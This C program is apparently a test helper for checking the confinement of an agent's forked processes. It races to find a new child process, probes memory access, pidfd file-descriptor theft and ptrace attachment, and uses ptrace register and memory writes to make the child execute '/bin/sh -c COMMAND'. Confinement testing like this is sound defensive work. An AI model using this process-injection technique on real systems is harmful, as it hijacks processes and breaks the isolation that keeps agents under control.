/*
 * Tries to take over a process that the agent has just forked: see test_confinement.py.
 *
 * hijacker COMMAND    It asks the host service for an agent, watches for new processes with real-time
 *                     priority where that is allowed, and prints each way in that works. Where it can
 *                     trace one, it makes that run `/bin/sh -c COMMAND`.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define ATTEMPTS 20000
#define NEXT_PIDS 4

static void works(const char *what)
{
	printf("works: %s\n", what);
	fflush(stdout);
}

/* Runs a shell in a traced process that stands at a system call. */
static void run_command(pid_t pid, const char *command)
{
	struct user_regs_struct registers;
	char page[4096] = "/bin/sh";
	unsigned long base, words[4];

	waitpid(pid, NULL, __WALL);
	if (ptrace(PTRACE_GETREGS, pid, 0, &registers))
		return;
	base = (registers.rsp - 8192) & ~0xfffUL;
	strcpy(page + 16, "-c");
	strncpy(page + 32, command, 2000);
	words[0] = base, words[1] = base + 16, words[2] = base + 32, words[3] = 0;
	memcpy(page + 3000, words, sizeof(words));
	strcpy(page + 3100, "PATH=/usr/sbin:/usr/bin:/sbin:/bin");
	words[0] = base + 3100, words[1] = 0;
	memcpy(page + 3200, words, 16);
	for (int at = 0; at < 4096; at += 8)
		if (ptrace(PTRACE_POKEDATA, pid, base + at, *(long *)(page + at)))
			return;
	registers.rip -= 2, registers.rax = SYS_execve, registers.orig_rax = -1;
	registers.rdi = base, registers.rsi = base + 3000, registers.rdx = base + 3200;
	if (!ptrace(PTRACE_SETREGS, pid, 0, &registers) && !ptrace(PTRACE_DETACH, pid, 0, 0))
		works("run a command in it");
}

/* A fork of the agent shows the agent's command line, which is short. */
static int has_run_program(pid_t pid)
{
	char path[64], line[64];
	int descriptor, length;

	snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
	descriptor = open(path, O_RDONLY);
	length = read(descriptor, line, sizeof(line));
	close(descriptor);
	return length > 20;
}

static int try_all(pid_t pid, const char *command)
{
	char path[64], byte;
	struct iovec ours = { &byte, 1 }, theirs = { (void *)0x400000, 1 };
	int descriptor, found = 0;

	if (has_run_program(pid))
		return 0;
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	descriptor = open(path, O_RDWR);
	if (descriptor >= 0)
		works("open its memory"), close(descriptor), found = 1;
	if (process_vm_readv(pid, &ours, 1, &theirs, 1, 0) >= 0 || errno == EFAULT)
		works("read its memory"), found = 1;
	descriptor = syscall(SYS_pidfd_open, pid, 0);
	if (descriptor >= 0 && syscall(438 /* pidfd_getfd */, descriptor, 0, 0) >= 0)
		works("take its files"), found = 1;
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		works("seize it"), found = 1;
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		run_command(pid, command);
	} else if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
		works("trace it"), found = 1;
		run_command(pid, command);
	}
	return found;
}

int main(int argc, char **argv)
{
	struct sched_param priority = { .sched_priority = 1 };
	struct sockaddr_un address = { AF_UNIX, "/run/wanlab/host-service" };
	int service = socket(AF_UNIX, SOCK_STREAM, 0);
	pid_t last;
	int found = 0;

	(void)argc;
	if (sched_setscheduler(0, SCHED_FIFO, &priority) == 0)
		works("be real-time");
	if (connect(service, (void *)&address, sizeof(address)))
		return 1;
	last = fork();
	if (last == 0)
		_exit(0);
	waitpid(last, NULL, 0);
	found = write(service, "{\"do\": \"agent\"}\n", 16) != 16;
	for (int i = 0; i < ATTEMPTS && !found; i++) {
		for (pid_t pid = last + 1; pid < last + NEXT_PIDS && !found; pid++)
			if (kill(pid, 0) == 0)
				found = try_all(pid, argv[1]);
		sched_yield();
	}
	priority.sched_priority = 0;
	sched_setscheduler(0, SCHED_OTHER, &priority);
	sleep(2);
	puts("done");
	return 0;
}
